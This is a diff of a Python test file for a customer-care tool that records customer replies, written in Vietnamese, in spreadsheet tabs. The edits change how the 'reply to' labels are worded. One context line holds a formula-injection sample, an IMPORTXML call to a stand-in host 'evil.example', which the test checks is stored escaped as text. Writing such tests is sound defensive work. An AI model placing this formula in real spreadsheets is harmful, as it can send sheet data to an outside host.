@@ -111,7 +111,7 @@ def test_each_message_ends_where_it_should_once_across_two_runs(tmp_path, mailbo
     assert "Cảm ơn văn phòng." in by_text and '\'=IMPORTXML("http://evil.example/x", "//a")' in by_text
     assert "Ảnh đây ạ" in by_text and "Nhân viên rất nhiệt tình" in by_text
     assert by_text["Cho tôi hỏi giá dịch vụ"]["Mã KH"] is None  # an unknown sender: a row for staff
-    bounce = next(r for r in rows.values() if r["Trả lời tin"] == "checkin/C-3/2026-11-16")
+    bounce = next(r for r in rows.values() if r["Trả lời tin"] == "tin hỏi thăm sau mua ngày 16/11 (email)")
     assert bounce["Mã KH"] == "C-3" and "5.1.1" in bounce["careloop đã làm"]
     assert same_cell(complaint["Thời gian"], datetime(2026, 11, 24, 9, 30))  # when it arrived
     week = dashboard_week(path, "2026-W48")  # the week they were heard in: the Dashboard counts them
@@ -192,7 +192,7 @@ def test_a_reply_from_another_address_is_matched_by_the_message_it_answers(tmp_p
     report = escalate(tmp_path, env)
     assert [o["customer_id"] for o in report["opened"]] == ["C-1"]
     (row,) = replies_tab(tmp_path / "k.xlsx")
-    assert (row["Mã KH"], row["Trả lời tin"]) == ("C-1", "checkin/C-1/2026-11-16")
+    assert (row["Mã KH"], row["Trả lời tin"]) == ("C-1", "tin hỏi thăm sau mua ngày 16/11 (email)")  # words, no key
 
 
 def test_a_score_replied_to_the_check_in_is_its_survey_answer_and_a_low_one_opens_one_case(tmp_path, mailbox):
